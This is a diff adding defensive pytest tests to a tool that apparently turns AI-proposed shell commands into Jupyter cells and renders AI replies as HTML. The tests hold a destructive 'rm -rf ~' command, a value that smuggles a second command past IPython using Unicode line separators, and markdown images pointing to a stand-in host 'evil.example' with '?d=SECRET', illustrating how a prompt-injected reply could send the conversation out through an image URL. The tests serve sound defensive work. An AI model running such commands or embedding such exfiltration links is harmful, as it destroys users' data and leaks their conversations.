@@ -118,3 +118,25 @@ def test_insert_cell_text():
     assert mixed == "%%bash\nls\ncat <<EOF\nx\nEOF"
     # a step that was never assessed is assessed, not taken as safe
     assert insert_cell_text([CommandStep(command="rm -rf ~")]).startswith("# DANGEROUS: ")
+
+
+def test_a_line_separator_never_splits_an_inserted_command():
+    """IPython splits a cell at U+2028 (as Python does), a shell does not: such a command goes into a %%bash
+    cell, whose body reaches bash untouched, and IPython then sees one system call, not two."""
+    from IPython.core.inputtransformer2 import TransformerManager
+
+    for sep in ("\u2028", "\u2029", "\x85", "\x0c"):
+        command = f"ls{sep}!rm -rf ~"
+        cell = insert_cell_text([CommandStep(command=command)])
+        assert cell.startswith("%%bash\n")
+        python = TransformerManager().transform_cell(cell)
+        assert "system(" not in python and "run_cell_magic('bash'" in python
+    assert visible("ls\u2028x\u2029y") == "ls\\u2028x\\u2029y"
+
+
+def test_images_in_a_reply_are_links_never_loaded():
+    """A remote image loads without a click; a prompt-injected reply could put the conversation in its URL."""
+    html = markdown_html("see ![chart](https://evil.example/x.png?d=SECRET) and ![r][1]\n\n[1]: https://e.example/r.png"
+                         "\n\n<img src=https://evil.example/y.png>")
+    assert "<img" not in html
+    assert 'href="https://evil.example/x.png?d=SECRET"' in html and "&lt;img" in html
